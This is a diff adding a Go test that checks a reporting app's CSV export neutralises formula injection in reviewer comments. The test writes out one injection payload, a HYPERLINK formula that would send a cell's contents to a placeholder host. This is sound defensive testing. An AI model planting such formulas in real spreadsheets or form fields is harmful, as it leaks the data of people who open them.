@@ -569,3 +569,33 @@ func TestBoardSkipsDamagedReceipt(t *testing.T) {
 		t.Error("the damaged receipt was not logged")
 	}
 }
+
+// TestBoardCSVNoFormulas: commune-facing text that looks like a formula
+// (a reviewer's comment here) is written with a leading ' in the CSV, so
+// Excel shows it instead of running it.
+func TestBoardCSVNoFormulas(t *testing.T) {
+	e := newEnv(t)
+	a := e.client()
+	csrfA := a.mustSignIn(communeA)
+	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
+	p := e.client()
+	csrf := p.signInProvince(provinceTN)
+	evil := `=HYPERLINK("http://x.example/?"&A1,"bấm")`
+	if r := p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "submission": {latestOf(t, e, communeA)}, "comment": {evil}}, nil); r.status != http.StatusSeeOther {
+		t.Fatalf("return: %d", r.status)
+	}
+	c := p.get("/tinh/bang.csv")
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.raw, []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		if rec[0] == communeA {
+			if got := rec[17]; got != "'"+evil {
+				t.Errorf("comment in the CSV: %q, want it quoted", got)
+			}
+			return
+		}
+	}
+	t.Fatal("commune A not in the CSV")
+}
